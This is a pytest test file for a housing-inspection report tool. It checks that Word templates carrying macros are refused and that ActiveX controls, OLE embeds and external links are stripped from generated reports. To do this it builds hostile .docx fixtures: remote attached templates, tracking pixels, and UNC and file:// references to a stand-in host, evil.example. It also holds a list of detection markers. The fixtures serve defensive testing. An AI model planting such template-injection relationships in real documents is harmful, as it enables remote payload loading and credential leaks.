"""Report templates with active content: macros are refused; ActiveX controls, embedded
objects and links that make Word fetch something are left out with a note. Whatever the
template holds, the report written through the real command never carries any of them.

Each hostile template is a small letterhead made with python-docx and then edited as a zip,
the way an attacker (or an odd tool) would: parts, relationships and content types added by
hand, with the main document's content type left as a plain .docx.
"""

from __future__ import annotations

import io
import re
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from lxml import etree

from tests.support.cli_run import run_cli

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RT = R_NS + "/"
HYPERLINK = RT + "hyperlink"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d6a4bb0000000049454e44ae426082"
)

Members = dict[str, bytes]


def run(data_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The command through ``cli.main`` (see tests/support/cli_run.py)."""
    return run_cli(data_dir, *args)


@pytest.fixture(scope="module")
def inspection(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    d = tmp_path_factory.mktemp("active") / "data"
    made = run(d, "new", "--title", "Repairs inspection", "--landlord", "Vale HA")
    assert made.returncode == 0, made.stderr
    return d, made.stdout.strip()


def letterhead() -> Members:
    import docx

    doc = docx.Document()
    header = doc.sections[0].header
    header.is_linked_to_previous = False
    header.paragraphs[0].add_run("Vale Housing · 1 River Street")
    doc.add_paragraph("Letter text that never reaches the report.")
    buf = io.BytesIO()
    doc.save(buf)
    with zipfile.ZipFile(buf) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def rels_name(part: str) -> str:
    folder, _, name = part.rpartition("/")
    return f"{folder}/_rels/{name}.rels" if folder else f"_rels/{name}.rels"


def add_rel(
    m: Members, part: str, rid: str, kind: str, target: str, external: bool = False
) -> None:
    name = rels_name(part)
    xml = m.get(name, f'<Relationships xmlns="{PKG_RELS}"></Relationships>'.encode())
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
    m[name] = xml.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def add_type(m: Members, part: str, content_type: str) -> None:
    over = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
    m["[Content_Types].xml"] = m["[Content_Types].xml"].replace(
        b"</Types>", over.encode() + b"</Types>"
    )


def add_default(m: Members, extension: str, content_type: str) -> None:
    default = f'<Default Extension="{extension}" ContentType="{content_type}"/>'
    m["[Content_Types].xml"] = m["[Content_Types].xml"].replace(
        b"<Default ", default.encode() + b"<Default ", 1
    )


def into(m: Members, part: str, closing: str, xml: str) -> None:
    m[part] = m[part].replace(closing.encode(), xml.encode() + closing.encode())


def paragraph(inner: str) -> str:
    return f"<w:p><w:r>{inner}</w:r></w:p>"


def activex(m: Members, part: str, closing: str) -> None:
    add_rel(m, part, "rIdAx1", RT + "control", "activeX/activeX1.xml")
    m["word/activeX/activeX1.xml"] = (
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'xmlns:r="' + R_NS.encode() + b'" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" '
        b'ax:persistence="persistStorage" r:id="rId1"/>'
    )
    add_rel(
        m,
        "word/activeX/activeX1.xml",
        "rId1",
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
        "activeX1.bin",
    )
    m["word/activeX/activeX1.bin"] = b"\xd0\xcf\x11\xe0 not really a control"
    add_type(m, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    add_type(m, "word/activeX/activeX1.bin", "application/vnd.ms-office.activeX")
    into(
        m,
        part,
        closing,
        paragraph('<w:object><w:control r:id="rIdAx1" w:name="CheckBox1"/></w:object>'),
    )


def ole(m: Members, part: str, closing: str) -> None:
    add_rel(m, part, "rIdOle1", RT + "oleObject", "embeddings/oleObject1.bin")
    add_rel(m, part, "rIdPkg1", RT + "package", "embeddings/Microsoft_Excel_Worksheet.xlsx")
    add_rel(m, part, "rIdImg1", RT + "image", "media/logo.png")
    m["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 an OLE object"
    m["word/embeddings/Microsoft_Excel_Worksheet.xlsx"] = b"PK not really a workbook"
    m["word/media/logo.png"] = PNG
    add_type(
        m,
        "word/embeddings/oleObject1.bin",
        "application/vnd.openxmlformats-officedocument.oleObject",
    )
    add_type(
        m,
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
    add_default(m, "png", "image/png")
    shape = '<v:shape id="s1" style="width:20pt;height:20pt"><v:imagedata r:id="rIdImg1" o:title=""/></v:shape>'
    into(
        m,
        part,
        closing,
        paragraph(
            f'<w:object>{shape}<o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" '
            'DrawAspect="Icon" ObjectID="_1" r:id="rIdOle1"/></w:object>'
        )
        + paragraph(
            f'<w:object>{shape}<o:OLEObject Type="Embed" ProgID="Excel.Sheet.12" '
            'ShapeID="s1" DrawAspect="Content" ObjectID="_2" r:id="rIdPkg1"/></w:object>'
        ),
    )


def vba_project(m: Members) -> None:
    m["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Attribute VB_Name = AutoOpen"
    add_rel(
        m,
        "word/document.xml",
        "rIdVba",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )
    add_type(m, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")


def vba_data(m: Members) -> None:
    m["word/vbaData.xml"] = (
        b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    )
    add_rel(
        m,
        "word/document.xml",
        "rIdVbd",
        "http://schemas.microsoft.com/office/2006/relationships/wordVbaData",
        "vbaData.xml",
    )
    add_type(m, "word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")


def vba_hidden(m: Members) -> None:
    """Only the part, under another folder and case: no relationship, no content type."""
    m["customXml/VBAPROJECT.BIN"] = b"\xd0\xcf\x11\xe0 macros"


def macro_default_type(m: Members) -> None:
    add_default(m, "bin", "application/vnd.ms-office.vbaProject")


def macro_main_type_elsewhere(m: Members) -> None:
    add_type(
        m, "word/glossary/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    )


def macro_rel_only(m: Members) -> None:
    add_rel(
        m,
        "word/settings.xml",
        "rIdV",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )


def remote_template(m: Members) -> None:
    add_rel(
        m,
        "word/settings.xml",
        "rIdTpl",
        RT + "attachedTemplate",
        "http://evil.example/letter.dotm",
        external=True,
    )
    m["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)",
        rb'\1<w:attachedTemplate r:id="rIdTpl"/>',
        m["word/settings.xml"],
        count=1,
    )


def tracking_image(m: Members) -> None:
    add_rel(
        m,
        "word/header1.xml",
        "rIdPix",
        RT + "image",
        "http://track.example/pixel.png",
        external=True,
    )
    into(
        m,
        "word/header1.xml",
        "</w:hdr>",
        paragraph(
            '<w:pict><v:shape id="p1" style="width:1pt;height:1pt"><v:imagedata r:id="rIdPix"/></v:shape></w:pict>'
        ),
    )


def external_everywhere(m: Members) -> None:
    """External relationships from parts nobody looks at, including the package itself."""
    add_rel(m, "", "rIdX1", RT + "oleObject", "http://evil.example/package", external=True)
    add_rel(
        m,
        "word/fontTable.xml",
        "rIdX2",
        RT + "font",
        "http://evil.example/font.odttf",
        external=True,
    )
    add_rel(
        m,
        "word/styles.xml",
        "rIdX3",
        RT + "image",
        "file://evil.example/share/styles.png",
        external=True,
    )
    add_rel(
        m,
        "word/webSettings.xml",
        "rIdX4",
        RT + "frame",
        "http://evil.example/frame.html",
        external=True,
    )
    add_rel(
        m,
        "word/document.xml",
        "rIdX5",
        RT + "subDocument",
        "\\\\evil.example\\share\\sub.docx",
        external=True,
    )
    add_rel(
        m,
        "word/settings.xml",
        "rIdX6",
        RT + "mailMergeSource",
        "http://evil.example/data.csv",
        external=True,
    )
    m["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)",
        rb'\1<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdX6"/></w:mailMerge>',
        m["word/settings.xml"],
        count=1,
    )


def hyperlink(m: Members) -> None:
    add_rel(m, "word/header1.xml", "rIdWeb", HYPERLINK, "https://vale.example/", external=True)
    into(
        m,
        "word/header1.xml",
        "</w:hdr>",
        '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>vale.example</w:t></w:r></w:hyperlink></w:p>',
    )


def everything(m: Members) -> None:
    for make in (remote_template, tracking_image, external_everywhere, hyperlink):
        make(m)
    activex(m, "word/header1.xml", "</w:hdr>")
    ole(m, "word/header1.xml", "</w:hdr>")


REFUSED: dict[str, Callable[[Members], None]] = {
    "vbaProject.bin": vba_project,
    "vbaData.xml": vba_data,
    "macro part hidden elsewhere": vba_hidden,
    "macro content type": macro_default_type,
    "macro-enabled part": macro_main_type_elsewhere,
    "macro relationship": macro_rel_only,
}
STRIPPED: dict[str, tuple[Callable[[Members], None], str]] = {
    "remote template": (remote_template, "remote"),
    "ActiveX in the body": (lambda m: activex(m, "word/document.xml", "<w:sectPr"), ""),
    "ActiveX in the header": (lambda m: activex(m, "word/header1.xml", "</w:hdr>"), "ActiveX"),
    "OLE objects in the header": (lambda m: ole(m, "word/header1.xml", "</w:hdr>"), "embedded"),
    "tracking image": (tracking_image, "remote"),
    "external links everywhere": (external_everywhere, "remote"),
    "all of them": (everything, "ActiveX"),
}


def write(m: Members, path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in m.items():
            zf.writestr(name, data)
    return path


def assert_clean(report: Path) -> None:
    """No macro, ActiveX, embedded object or non-hyperlink external link in any part."""
    with zipfile.ZipFile(report) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    for name, data in parts.items():
        low = name.lower()
        assert "vba" not in low, name
        assert not low.startswith(("word/activex/", "word/embeddings/")), name
        assert b"evil.example" not in data and b"track.example" not in data, name
        for word in (
            b"vbaProject",
            b"vbaData",
            b"macroEnabled",
            b"activeX",
            b"oleObject",
            b"attachedTemplate",
        ):
            assert word.lower() not in data.lower(), (name, word)
        if not low.endswith(".rels"):
            continue
        for rel in etree.fromstring(data):
            kind = rel.get("Type")
            if rel.get("TargetMode") == "External":
                assert kind == HYPERLINK, (name, kind, rel.get("Target"))
            assert not kind.endswith(("/control", "/oleObject", "/package", "/vbaProject")), kind
        # No reference left dangling in the part these relationships belong to.
        folder, _, rels = name.rpartition("_rels/")
        owner = folder + rels[: -len(".rels")]
        if owner in parts and owner.endswith(".xml"):
            ids = {rel.get("Id") for rel in etree.fromstring(data)}
            used = {
                value
                for el in etree.fromstring(parts[owner]).iter()
                for key, value in el.attrib.items()
                if key.startswith("{" + R_NS + "}")
            }
            assert used <= ids, (owner, used - ids)


@pytest.mark.parametrize("family", sorted(REFUSED))
def test_macros_are_refused_and_nothing_is_written(
    inspection: tuple[Path, str], tmp_path: Path, family: str
) -> None:
    d, iid = inspection
    m = letterhead()
    REFUSED[family](m)
    template = write(m, tmp_path / "letterhead.docx")
    out = tmp_path / "out"
    out.mkdir()
    done = run(d, "report", iid[:8], "-o", str(out / "r.docx"), "--template", str(template))
    assert done.returncode == 1, done.stdout
    [line] = done.stderr.splitlines()
    assert line.startswith(f"tenant-inspect: template {template} holds macros"), line
    assert list(out.iterdir()) == []


@pytest.mark.parametrize("family", sorted(STRIPPED))
def test_active_content_is_left_out_of_the_report(
    inspection: tuple[Path, str], tmp_path: Path, family: str
) -> None:
    d, iid = inspection
    make, said = STRIPPED[family]
    m = letterhead()
    make(m)
    template = write(m, tmp_path / "letterhead.docx")
    out = tmp_path / "r.docx"
    done = run(d, "report", iid[:8], "-o", str(out), "--template", str(template))
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    assert_clean(out)
    notes = [line for line in done.stderr.splitlines() if line.startswith("note: ")]
    if said:  # what the header or settings held is named; body content goes with the body
        assert any(str(template) in n and said in n and "left out" in n for n in notes), notes
    # The letterhead itself survives.
    with zipfile.ZipFile(out) as zf:
        headers = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("word/header"))
    assert b"Vale Housing" in headers


def test_ordinary_hyperlinks_are_kept(inspection: tuple[Path, str], tmp_path: Path) -> None:
    d, iid = inspection
    m = letterhead()
    hyperlink(m)
    template = write(m, tmp_path / "letterhead.docx")
    out = tmp_path / "r.docx"
    done = run(d, "report", iid[:8], "-o", str(out), "--template", str(template))
    assert done.returncode == 0, done.stderr
    assert not [line for line in done.stderr.splitlines() if "left out" in line]
    assert_clean(out)
    with zipfile.ZipFile(out) as zf:
        rels = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".rels"))
    assert b"https://vale.example/" in rels
